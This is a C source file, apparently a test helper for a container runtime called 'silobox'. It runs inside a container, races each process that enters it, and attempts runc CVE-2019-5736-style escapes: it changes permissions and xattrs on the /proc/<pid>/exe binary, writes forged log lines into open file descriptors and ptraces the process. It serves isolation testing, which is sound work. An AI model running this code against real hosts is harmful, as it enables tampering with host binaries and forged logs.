/*
 * A hostile process inside a container that races every process entering it.
 *
 * It scans /proc for new processes; one named "silobox-entry" (the entry helper, before its
 * execve) is stopped first so the rest is deterministic. Every new process is then attacked
 * as in the runc CVE-2019-5736 class: open /proc/<pid>/exe and fchmod/fchown/fsetxattr it,
 * open each /proc/<pid>/fd/N for writing (a regular file gets a forged json-file log line),
 * PTRACE_SEIZE it. Every success is one line in the output file, with the device and inode
 * of what was opened, for the test to compare with the host's files. The stopped process is
 * continued, except with "hold": then the first entry helper stays stopped for good.
 *
 * usage: entry_watcher race|hold OUTFILE
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

static FILE *out;
static unsigned char seen[1 << 22];

static void say(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void say(const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    vfprintf(out, fmt, ap);
    va_end(ap);
    fflush(out);
}

static void read_comm(int pid, char *comm, size_t cap)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    comm[0] = 0;
    int f = open(path, O_RDONLY | O_CLOEXEC);
    if (f >= 0) {
        ssize_t n = read(f, comm, cap - 1);
        comm[n > 0 ? n - 1 : 0] = 0;
        close(f);
    }
}

/* Wait until the process is really stopped (a stop lands when it returns to user space). */
static int wait_stopped(int pid)
{
    char path[64], buf[256];
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    for (int i = 0; i < 2000; i++) {
        int f = open(path, O_RDONLY | O_CLOEXEC);
        if (f < 0)
            return 0;
        ssize_t n = read(f, buf, sizeof buf - 1);
        close(f);
        if (n <= 0)
            return 0;
        buf[n] = 0;
        char *p = strrchr(buf, ')');
        if (p && (p[2] == 'T' || p[2] == 't'))
            return 1;
        usleep(50);
    }
    return 0;
}

static void attack(int pid, char *comm, size_t cap, int hold)
{
    char path[64];
    struct stat st;
    int stopped = 0;
    if (strcmp(comm, "silobox-entry") == 0 && kill(pid, SIGSTOP) == 0 && wait_stopped(pid)) {
        stopped = 1;
        /* It may have reached execve before the stop: name it by what it is now. */
        read_comm(pid, comm, cap);
        say("STOP %d %s\n", pid, comm);
    }
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd >= 0 && fstat(fd, &st) == 0) {
        say("EXE %d %s %lu %lu\n", pid, comm, (unsigned long)st.st_dev, (unsigned long)st.st_ino);
        if (fchmod(fd, (st.st_mode & 07777) | S_ISVTX) == 0)
            say("CHMOD %d %s\n", pid, comm);
        if (fchown(fd, (uid_t)-1, 4242) == 0)
            say("CHOWN %d %s\n", pid, comm);
        if (fsetxattr(fd, "user.silobox_probe", "1", 1, 0) == 0)
            say("XATTR %d %s\n", pid, comm);
    }
    if (fd >= 0)
        close(fd);
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *d = opendir(path);
    if (d) {
        struct dirent *e;
        while ((e = readdir(d))) {
            if (e->d_name[0] == '.')
                continue;
            char p2[320];
            snprintf(p2, sizeof p2, "/proc/%d/fd/%s", pid, e->d_name);
            int f = open(p2, O_WRONLY | O_APPEND | O_CLOEXEC | O_NONBLOCK);
            if (f < 0)
                f = open(p2, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
            if (f < 0 || fstat(f, &st) != 0)
                continue;
            say("FD %d %s %s %lu %lu\n", pid, comm, e->d_name, (unsigned long)st.st_dev,
                (unsigned long)st.st_ino);
            if (S_ISREG(st.st_mode)) {
                const char *line = "{\"log\":\"FORGED\\n\",\"stream\":\"stdout\","
                                   "\"time\":\"2020-01-01T00:00:00.000000000Z\"}\n";
                if (write(f, line, strlen(line)) > 0)
                    say("FORGE %d %s\n", pid, comm);
            }
            close(f);
        }
        closedir(d);
    }
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        say("PTRACE %d %s\n", pid, comm);
        ptrace(PTRACE_INTERRUPT, pid, 0, 0);
        waitpid(pid, NULL, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
    if (stopped && !hold)
        kill(pid, SIGCONT);
}

int main(int argc, char **argv)
{
    if (argc != 3)
        return 2;
    int hold = strcmp(argv[1], "hold") == 0;
    out = fopen(argv[2], "a");
    if (!out)
        return 1;
    int me = getpid();
    say("READY %d\n", me);
    for (;;) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == me || pid >= (int)sizeof seen || seen[pid])
                continue;
            seen[pid] = 1;
            char comm[32];
            read_comm(pid, comm, sizeof comm);
            say("SEEN %d %s\n", pid, comm);
            attack(pid, comm, sizeof comm, hold);
            if (hold && strcmp(comm, "silobox-entry") == 0)
                hold = 0;   /* one held for good; the rest go on */
        }
        if (d)
            closedir(d);
    }
}
